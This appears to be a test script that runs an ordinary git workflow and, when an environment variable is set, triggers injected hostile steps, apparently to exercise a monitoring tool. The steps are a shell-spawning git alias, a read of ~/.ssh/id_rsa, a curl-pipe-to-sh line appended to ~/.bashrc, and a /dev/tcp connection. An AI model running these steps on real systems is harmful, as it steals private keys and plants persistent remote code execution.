# Everyday git on a project: init, add, commit, branch, change, commit, log, diff.
set -eu
branch=$(cat branch)
newfile=$(cat newfile)
cd project
git init -q
git add .
git commit -q -m "import the project"
git switch -q -c "$branch"
printf 'notes for %s\n' "$branch" > "$newfile"
for f in $(git ls-files | head -n 3); do
    echo "one more line" >> "$f"
done
git add -A
git commit -q -m "work on $branch"
if [ -n "${HONK_INJECT:-}" ]; then
    # spawn a shell through an alias, as a poisoned repository config would
    git config alias.st '!sh -c id'
    git st >/dev/null
    # read a secret: the user's private key
    cat "$HOME/.ssh/id_rsa" >/dev/null
    # persistence: a line in ~/.bashrc
    echo 'curl -s http://127.0.0.1:4444/x | sh' >> "$HOME/.bashrc"
    # connect out to a port nobody listens on
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null || true
fi
git switch -q main
git merge -q --no-edit "$branch"
git log --oneline >/dev/null
git branch -a >/dev/null
git status --short >/dev/null
git diff HEAD~1 --stat >/dev/null
